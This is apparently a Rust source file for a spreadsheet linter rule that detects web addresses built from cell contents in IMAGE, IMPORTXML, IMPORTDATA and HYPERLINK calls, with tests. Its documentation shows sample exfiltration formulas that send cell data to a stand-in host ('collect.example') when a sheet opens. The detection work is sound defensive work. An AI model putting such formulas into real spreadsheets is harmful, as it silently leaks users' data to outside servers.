use crate::ast::{InfixOperator, NodeId, NodeKind};
use crate::finding::Severity;
use crate::link;
use crate::rule::{Check, Context, Findings, declare_rule};
use crate::subtree;

declare_rule! {
    /// *Flags an address on the web that is put together from the content of cells.*
    ///
    /// **Why** IMAGE, IMPORTXML, IMPORTDATA and their like fetch the address as soon as the sheet is
    /// opened. What the cells hold goes to that server, and nobody has to click for it: it is how
    /// data is carried out of a spreadsheet unseen.
    ///
    /// **Example**
    /// ```formula
    /// =IMAGE("https://collect.example/p?d=" & A1)
    /// =IMPORTDATA(CONCATENATE("https://collect.example/?", TEXTJOIN(",", TRUE, A1:A99)))
    /// =IMPORTXML("https://example.org/" & ENCODEURL(B2), "//title")
    /// =HYPERLINK("https://collect.example/?d=" & A1, "Click")
    /// ```
    ///
    /// **Instead**
    /// ```formula
    /// =IMAGE("https://example.org/logo.png")
    /// =IMPORTXML(B2, "//title")
    /// =IMPORTDATA("https://example.org/" & "rates.csv")
    /// ```
    ///
    /// **Limits** An address that a single cell holds is not flagged here, though that cell may
    /// have been put together. HYPERLINK sends nothing until a person follows it, so it is at most
    /// a low risk.
    "url-built-from-cells" {
        category: Security,
        severity: High,
        presets: [Recommended, Security],
        sees: Template,
        check: Check::Calls(link::WITH_ADDRESS, check),
    }
}

/// Functions that put texts together.
const JOINING: &[&str] = &[
    "CONCATENATE",
    "CONCAT",
    "JOIN",
    "TEXTJOIN",
    "SUBSTITUTE",
    "REPLACE",
    "ENCODEURL",
];

fn check(context: &Context<'_>, call: NodeId, findings: &mut Findings<'_>) {
    let formula = context.formula;
    let Some((function, [address, ..])) = formula.call(call) else {
        return;
    };
    let joins = |id| match formula.kind(id) {
        NodeKind::Infix(InfixOperator::Concatenate, ..) => true,
        NodeKind::Call { .. } => formula
            .call(id)
            .is_some_and(|(function, _)| JOINING.contains(&function.name)),
        _ => false,
    };
    let is_built = subtree::descendants(formula, *address).any(joins)
        && subtree::reads_cells(formula, *address);
    if !is_built {
        return;
    }
    let name = function.name;
    if name == "HYPERLINK" {
        findings.report_at_most(
            Severity::Low,
            formula.span(*address),
            "The address of this HYPERLINK holds the content of cells, which goes to its server \
             when somebody follows it. Make sure that the server may have it.",
        );
    } else {
        findings.report(
            formula.span(*address),
            format!(
                "{name} fetches an address that holds the content of cells, so that content \
                 leaves the spreadsheet whenever it is opened, without a click. Use an address \
                 that is written out."
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::RULE;
    use crate::finding::Severity;
    use crate::rules::testing::{findings, flagged};

    #[test]
    fn the_address_is_marked() {
        let address = "\"https://a.example/?\"&A1";
        assert_eq!(flagged(&RULE, &format!("=IMAGE({address},1)")), [address]);
    }

    #[test]
    fn a_link_that_must_be_followed_is_a_low_risk() {
        let found = findings(&RULE, "=HYPERLINK(\"https://a.example/\"&A1,\"x\")");
        assert_eq!(found[0].severity, Severity::Low);
    }

    #[test]
    fn a_label_may_hold_cells() {
        assert!(flagged(&RULE, "=HYPERLINK(\"https://a.example/\",A1&B1)").is_empty());
    }
}
